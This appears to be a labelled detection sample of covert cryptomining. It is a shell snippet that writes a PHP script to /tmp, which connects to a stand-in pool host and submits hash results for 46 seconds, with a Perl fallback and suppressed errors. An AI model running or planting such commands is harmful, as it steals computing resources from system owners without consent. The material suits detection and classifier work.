# class: mining; possible: low medium
cat > /tmp/run.php <<'PHP'
<?php
$s = fsockopen("pool.coin.test", 3334, $e, $m, 10);
$say = function ($id, $method, $p) use ($s) {
  fwrite($s, json_encode(["id" => $id, "jsonrpc" => "2.0", "method" => $method, "params" => $p]) . "\n");
  return json_decode(fgets($s), true);
};
$r = $say(1, "login", ["login" => "48edf", "pass" => "php", "agent" => "php/1"]);
$end = microtime(true) + 46; $n = 0; $last = 0;
while (microtime(true) < $end) {
  $h = hash("sha256", hash("sha256", $r["result"]["job"]["blob"] . $n++, true));
  if (substr($h, -4) === "0000" && microtime(true) - $last > 2) {
    $last = microtime(true);
    $say($n, "submit", ["id" => $r["result"]["id"], "job_id" => "j1", "nonce" => dechex($n), "result" => $h]);
  }
}
PHP
php /tmp/run.php 2>/dev/null || perl -MIO::Socket::INET -MDigest::SHA=sha256_hex -e '
  $s = IO::Socket::INET->new("pool.coin.test:3334"); $| = 1; $s->autoflush(1);
  print $s qq({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48","pass":"x"}}\n); <$s>;
  $t = time; while (time - $t < 46) { for (1..50000) { $h = sha256_hex($n++ . "ab" x 70) ; $ok = $h if $h =~ /000$/ }
    if ($ok) { print $s qq({"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"r1","job_id":"j1","nonce":"0","result":"$ok"}}\n); <$s>; $ok = "" } }'
